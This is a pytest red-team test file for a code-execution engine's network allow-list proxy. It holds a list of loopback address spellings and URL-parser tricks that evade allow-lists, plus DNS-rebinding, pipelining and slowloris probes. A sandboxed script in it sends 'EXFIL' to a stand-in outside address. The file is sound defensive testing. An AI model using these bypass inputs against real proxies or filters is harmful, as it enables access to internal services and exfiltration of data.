"""Red team: a script tries to get past the network allow-list.

Against the real proxy (:class:`AllowListProxy` on loopback, a real echo server as the
forbidden target): IP literals in every spelling the C library or a URL parser accepts,
IPv4 hidden in IPv6, user-info and fragment tricks in absolute-form URLs, a request
pipelined behind an allowed one, DNS rebinding (a resolver whose second answer is
loopback), a slowloris holding every connection. Each probe has its negative control: the
same request with the target listed reaches the echo server.

Through the real engine: the proxy's *port* on another address. Landlock's network rules
know ports, not addresses, so a sandbox with the allow-list gets a network namespace of its
own, where the only thing listening is the bridge to the proxy.
"""

from __future__ import annotations

import json
import os
import socket
import threading
import time

import pytest

from execengine.config import Config
from execengine.confine import proxy as proxy_mod
from execengine.confine.domains import DomainPolicy
from execengine.confine.proxy import AllowListProxy
from execengine.engine.core import Engine

from .conftest import level_params, wait_until

LEVEL = level_params()


@pytest.fixture
def echo():
    """A TCP server on 127.0.0.1 that records what reached it."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.1)
    hits: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(5)
                try:
                    data = conn.recv(4096)
                except OSError:
                    continue
                hits.append(data)
                conn.sendall(b"echo:" + data)

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield listener.getsockname()[1], hits
    stop.set()
    t.join(5)
    listener.close()


def tunnel(proxy: AllowListProxy, target: str) -> str:
    with socket.create_connection(("127.0.0.1", proxy.port), 10) as s:
        s.settimeout(10)
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head = s.recv(4096).decode(errors="replace")
        if not head.startswith("HTTP/1.1 200"):
            return head
        s.sendall(b"ping")
        return s.recv(4096).decode(errors="replace")


def request(proxy: AllowListProxy, raw: bytes) -> str:
    with socket.create_connection(("127.0.0.1", proxy.port), 10) as s:
        s.settimeout(10)
        s.sendall(raw)
        return s.recv(4096).decode(errors="replace")


# hosts that all mean 127.0.0.1 to some parser (inet_aton, a URL library, the kernel)
LOOPBACK_SPELLINGS = [
    "0x7f000001", "2130706433", "127.1", "0177.0.0.1", "0x7f.0.0.1", "127.0.0.1.",
    "[127.0.0.1]", "127.0.0.1%lo", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
    "[0:0:0:0:0:ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
    "[::1]", "localhost", "LOCALHOST.", "x.example.com@127.0.0.1",
    "127.0.0.1#.example.com", "127.0.0.1/.example.com",
]


@pytest.mark.parametrize("host", LOOPBACK_SPELLINGS)
def test_a_connect_to_loopback_in_any_spelling_is_refused(host, echo):
    port, hits = echo
    with AllowListProxy(DomainPolicy.of(["*.example.com", "api.example.com"], [])) as proxy:
        reply = tunnel(proxy, f"{host}:{port}")
    assert reply.startswith(("HTTP/1.1 403", "HTTP/1.1 400")), reply
    assert hits == []


@pytest.mark.parametrize("url", [
    "http://127.0.0.1:{port}/", "HTTP://127.0.0.1:{port}/",
    "http://x.example.com@127.0.0.1:{port}/", "http://127.0.0.1:{port}\\@x.example.com/",
    "http://127.0.0.1:{port}#@x.example.com/", "http://[::ffff:127.0.0.1]:{port}/",
    "http://2130706433:{port}/", "http://localhost:{port}/",
])
def test_an_absolute_form_request_to_loopback_is_refused(url, echo):
    port, hits = echo
    target = url.format(port=port)
    with AllowListProxy(DomainPolicy.of(["*.example.com"], [])) as proxy:
        reply = request(proxy, f"GET {target} HTTP/1.1\r\nHost: x.example.com\r\n\r\n"
                        .encode())
    assert reply.startswith(("HTTP/1.1 403", "HTTP/1.1 400")), reply
    assert hits == []


def test_the_negative_control_reaches_a_listed_target(echo):
    """The probes above would see a leak: listed, the same target is reached."""
    port, hits = echo
    with AllowListProxy(DomainPolicy.of(["127.0.0.1", "::ffff:0:0/96"], [])) as proxy:
        assert tunnel(proxy, f"127.0.0.1:{port}") == "echo:ping"
        assert tunnel(proxy, f"[::ffff:127.0.0.1]:{port}") == "echo:ping"
        assert request(proxy, f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\n\r\n".encode()
                       ).startswith("echo:GET / HTTP/1.1")
    assert len(hits) == 3


def test_a_denied_ipv4_is_denied_when_written_as_ipv6(echo):
    """Deny wins: ``::ffff:a.b.c.d`` (and 6to4 / NAT64 forms) is the same host as
    ``a.b.c.d``. Fixed in confine/domains.py (matches)."""
    port, hits = echo
    allowed = ["127.0.0.0/8", "::ffff:0:0/96"]
    with AllowListProxy(DomainPolicy.of(allowed, [])) as proxy:  # negative control
        assert tunnel(proxy, f"[::ffff:127.0.0.1]:{port}") == "echo:ping"
    assert len(hits) == 1
    with AllowListProxy(DomainPolicy.of(allowed, ["127.0.0.1"])) as proxy:
        for host in ("127.0.0.1", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"):
            reply = tunnel(proxy, f"{host}:{port}")
            assert reply.startswith("HTTP/1.1 403") and "denied" in reply, (host, reply)
    assert len(hits) == 1


def test_a_request_pipelined_behind_an_allowed_one_stays_on_its_connection(echo):
    """A second request on an allowed plain-HTTP connection names another host: it goes
    to the vetted address of the first (the proxy relays, it never re-routes)."""
    port, _hits = echo
    other = socket.create_server(("127.0.0.1", 0))
    other.settimeout(0.5)
    try:
        with AllowListProxy(DomainPolicy.of(["api.test"], []),
                            resolver=lambda h, p: ["127.0.0.1"]) as proxy:
            proxy.domains = DomainPolicy.of(["api.test", "127.0.0.1"], [])
            raw = (f"GET http://api.test:{port}/a HTTP/1.1\r\nHost: api.test\r\n\r\n"
                   f"GET http://127.0.0.1:{other.getsockname()[1]}/b HTTP/1.1\r\n"
                   "Host: x\r\n\r\n").encode()
            reply = request(proxy, raw)
        assert reply.startswith("echo:GET /a HTTP/1.1"), reply
        with pytest.raises(TimeoutError):
            other.accept()
    finally:
        other.close()


def test_dns_is_asked_once_and_the_vetted_address_is_used():
    """DNS rebinding: the first answer is public, every later one loopback. The proxy
    must connect to the first, never ask again."""
    answers = []
    connected: list[tuple[str, int]] = []

    def rebinding(host: str, port: int) -> list[str]:
        answers.append(host)
        return ["93.184.216.34"] if len(answers) == 1 else ["127.0.0.1"]

    def connector(addr: str, port: int) -> socket.socket:
        connected.append((addr, port))
        raise OSError("no network in tests")

    with AllowListProxy(DomainPolicy.of(["*.example.com"], []), resolver=rebinding,
                        connector=connector) as proxy:
        reply = tunnel(proxy, "rebind.example.com:443")
    assert reply.startswith("HTTP/1.1 502"), reply
    assert answers == ["rebind.example.com"]
    assert connected == [("93.184.216.34", 443)]


def test_a_slowloris_does_not_outlive_the_proxy(monkeypatch):
    """Every connection slot held by a client that never finishes its header: the proxy
    refuses more (closes them), and close() still ends every thread at once."""
    monkeypatch.setattr(proxy_mod, "MAX_CONNECTIONS", 8)
    held: list[socket.socket] = []
    proxy = AllowListProxy(DomainPolicy.of(["*.example.com"], []))
    try:
        for _ in range(8):
            s = socket.create_connection(("127.0.0.1", proxy.port), 5)
            s.sendall(b"CONNECT x.exa")
            held.append(s)
        assert wait_until(lambda: len(proxy._threads) == 8, 5.0), len(proxy._threads)
        extra = socket.create_connection(("127.0.0.1", proxy.port), 5)
        extra.settimeout(5)
        assert extra.recv(10) == b""  # closed at once, not queued behind the slow ones
        extra.close()
        started = time.monotonic()
    finally:
        proxy.close()
        for s in held:
            s.close()
    assert time.monotonic() - started < 5
    assert not proxy._threads and not [t for t in threading.enumerate()
                                       if t.name.startswith("execengine-proxy") and
                                       t.is_alive()]


SAME_PORT_OTHER_ADDRESS = """
import json, os, socket, time
port = int(os.environ["HTTPS_PROXY"].rstrip("/").rsplit(":", 1)[1])
with open("port.tmp", "w") as fh:
    fh.write(str(port))
os.rename("port.tmp", "port")
deadline = time.monotonic() + 15
while not os.path.exists("go") and time.monotonic() < deadline:
    time.sleep(0.01)
try:
    s = socket.create_connection(("127.0.0.2", port), 3)
    s.sendall(b"EXFIL")
    s.close()
    out = "connected"
except OSError as exc:
    out = type(exc).__name__
print(json.dumps({"direct": out}))
"""


def _listen_on_the_proxy_port(work, got: dict) -> None:
    """Host side: once the script tells the proxy's port, listen on the same port of
    another loopback address (standing for any outside host) and record what arrives."""
    deadline = time.monotonic() + 20
    port_file = work / "port"
    while not port_file.exists():
        if time.monotonic() > deadline:
            return
        time.sleep(0.01)
    listener = socket.create_server(("127.0.0.2", int(port_file.read_text())))
    listener.settimeout(10)
    (work / "go").touch()
    try:
        conn, _ = listener.accept()
        with conn:
            conn.settimeout(5)
            got["data"] = conn.recv(16)
    except OSError:
        pass
    finally:
        listener.close()


@pytest.mark.parametrize("level", LEVEL)
def test_the_proxy_port_on_another_address_is_unreachable(level, tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    os.chmod(work, 0o777)  # the slot uid writes the port file here at restricted
    config = Config().with_overrides({
        "code_execution.isolation": level, "code_execution.min_isolation": level,
        "policy.network": "allowlist", "policy.allowed_domains": ["example.com"],
        "approvals.mode": "allow", "code_execution.timeout": 30})
    got: dict = {}
    watcher = threading.Thread(target=_listen_on_the_proxy_port, args=(work, got))
    watcher.start()
    try:
        with Engine(config) as engine:
            r = engine.execute(SAME_PORT_OTHER_ADDRESS, cwd=str(work))
    finally:
        (work / "go").touch()
        watcher.join(30)
    assert r.status == "success", (r.error, r.output)
    res = json.loads(r.output.strip().splitlines()[-1])
    if level == "none":  # the negative control: nothing confines the script's sockets
        assert res["direct"] == "connected" and got.get("data") == b"EXFIL", (res, got)
        return
    assert res["direct"] != "connected" and "data" not in got, (res, got)
